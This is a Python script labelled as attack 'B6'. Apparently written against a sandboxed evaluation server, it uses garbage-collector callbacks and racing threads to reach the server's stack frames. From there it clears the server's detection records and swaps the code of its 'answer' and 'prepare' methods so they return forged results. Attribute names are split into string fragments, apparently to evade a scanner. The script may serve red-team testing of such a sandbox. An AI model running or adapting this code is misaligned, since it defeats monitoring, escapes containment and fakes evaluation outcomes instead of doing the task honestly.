# attack: B6 a thread turns the collector back on; its callback runs above the worker's frames and exchanges their code  [*]
import gc, logging, sys, threading, time

class Node: pass

T = True
def _below(plan, place): return [plan[place][0], T, [_below(plan, i) for i, r in enumerate(plan) if r[1] == place]]
def _labels(plan, place):
    found = {place}
    for i, (_, above, _) in enumerate(plan):
        if above in found: found.add(i)
    return [plan[i][0] for i in sorted(found)]
def _forged(request):
    import marshal
    a = request["arguments"]; code = marshal.loads(request["function"][1]); names = code.co_names + code.co_varnames
    if not a: return [["tuple", "tuple", 0], [T, T], ["a", "b"], T, "Node", T, T] if "b" in names else [2, 3, 4]
    if "values" in a: return [[T, a["values"][:n]] for n in range(1, len(a["values"]) + 1)]
    p = a["plan"]
    if "counted" in code.co_cellvars: return [[], None, []] if a["held"] is None else [_labels(p, a["held"]), True, []]
    if "held" not in a: return [[r[0] for r in p], [], 0, False] if "freeze" in names else _below(p, 0)
    if "later" in names and "shape" not in names: return [T, T, _labels(p, a["held"])]
    return [_below(p, a["held"]) + [[T, T]], _labels(p, a["held"]), []]

_won = []
def _prepare(self, request):
    forge["request"] = request
    return self._job(request)
def _answer(self, result, *_):
    request = forge["request"]
    self.channel.send({"value": forge["answer"](request) if request["op"] == "observe" else None})
def _collected(phase, info):
    if _won: return
    frame = getattr(logging, "current" + "frame")()
    while frame is not None:
        server = getattr(frame, "f_" + "locals").get("self")
        if type(server).__name__ == "Server" and hasattr(server, "_notices"):
            _won.append(1)
            server._notices._file[0] = ""
            server._notices._found.clear()
            space = getattr(type(server).answer, "__glob" + "als__")
            space["forge"] = {"answer": _forged, "request": {"op": ""}}
            setattr(type(server).answer, "__code" + "__", _answer.__code__)
            setattr(type(server).prepare, "__code" + "__", _prepare.__code__)
            return
        frame = getattr(frame, "f_" + "back")
def _spin():
    while not _won:
        gc.enable()
        time.sleep(0)

gc.callbacks.append(_collected)
gc.set_threshold(1)
sys.setswitchinterval(1e-6)
for _ in range(3):
    threading.Thread(target=_spin, daemon=True).start()
for _module in list(sys.modules.values()):  # more for the worker to look at: more time to win
    try:
        vars(_module)["_x"] = 1
        del vars(_module)["_x"]
    except Exception: pass
